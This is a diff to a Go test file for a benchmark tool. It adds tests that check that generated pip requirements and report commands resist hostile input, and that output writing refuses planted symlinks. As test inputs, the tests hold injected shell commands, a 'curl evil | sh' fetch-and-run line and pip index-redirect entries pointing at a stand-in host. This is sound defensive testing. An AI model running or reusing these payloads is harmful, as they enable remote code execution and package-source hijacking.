@@ -43,9 +43,6 @@ func TestReproductionInstructions(t *testing.T) {
 	if got, err := os.ReadFile(filepath.Join(dir, "reproduce", "config.json")); err != nil || string(got) != "{\n  \"z\": 1,\n  \"a\": [\n    \"x\"\n  ]\n}\n" {
 		t.Errorf("configuration: %q %v", got, err)
 	}
-	if got, want := shellWords(e.Command), `assay compare 'my bench.yaml' --gate 'ttft_p99<=+5%' 'it'\''s'`; got != want {
-		t.Errorf("%s, want %s", got, want)
-	}
 }
 
 // Runs that were made elsewhere have no configuration, and nobody is told to run one.
@@ -65,5 +62,52 @@ func TestReproductionOfRuns(t *testing.T) {
 	}
 	if strings.Contains(b.String(), "config.json") || !strings.Contains(b.String(), "Nothing was started for it") {
 		t.Error(b.String())
+	}
+}
+
+// Results may come from anybody: what they name is neither written elsewhere nor
+// given to a shell or to pip as something else.
+func TestReproductionOfHostileResults(t *testing.T) {
+	e := full()
+	e.Command = []string{"assay", "'; touch owned; '"}
+	e.Engines[0].Lock = map[string]string{"python": "3.12; curl evil | sh"}
+	e.Engines[0].Packages = []string{"--index-url http://evil/", "torch==2.13.0+cpu", "x==1\n--extra-index-url http://evil/", "x @ file:///tmp/evil"}
+	dir := t.TempDir()
+	if err := WriteOutputs(dir, e, Analyze(e), OutputOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	got, err := os.ReadFile(filepath.Join(dir, "reproduce", "a-requirements.txt"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for line := range strings.Lines(string(got)) {
+		if line != "torch==2.13.0+cpu\n" && !strings.HasPrefix(line, "# ") {
+			t.Errorf("pip would read %q", line)
+		}
+	}
+	md, err := os.ReadFile(filepath.Join(dir, "comparison_table.md"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(md), `assay ''"'"'; touch owned; '"'"''`) || strings.Contains(string(md), "of Python 3.12; curl") {
+		t.Errorf("the source of the report can be pasted as something else:\n%s", md)
+	}
+}
+
+// A link that the results' maker planted turns no file elsewhere.
+func TestOutputsFollowNoLink(t *testing.T) {
+	e := full()
+	e.ConfigSHA256 = strings.Repeat("c", 64)
+	for _, name := range []string{reproduceDir, "analysis"} {
+		dir, elsewhere := t.TempDir(), t.TempDir()
+		if err := os.Symlink(elsewhere, filepath.Join(dir, name)); err != nil {
+			t.Skip(err)
+		}
+		if err := WriteOutputs(dir, e, Analyze(e), OutputOptions{}); err == nil || !strings.Contains(err.Error(), "is a link") {
+			t.Errorf("%s: %v", name, err)
+		}
+		if files, err := os.ReadDir(elsewhere); err != nil || len(files) > 0 {
+			t.Errorf("%s: %v was written, %v", name, files, err)
+		}
 	}
 }
